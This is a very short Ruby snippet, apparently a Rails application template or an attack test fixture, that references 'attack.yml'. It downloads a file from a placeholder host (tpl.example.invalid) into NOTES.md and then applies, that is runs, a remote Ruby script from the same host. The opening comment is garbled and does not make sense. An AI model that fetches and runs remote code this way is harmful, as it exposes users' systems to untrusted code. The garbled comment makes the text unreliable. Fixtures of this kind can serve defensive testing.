# promise: (see attack.yml) — downloads the user's rewrite serves from disk.
get "https://tpl.example.invalid/notes.txt", "NOTES.md"
apply "https://tpl.example.invalid/more.rb"
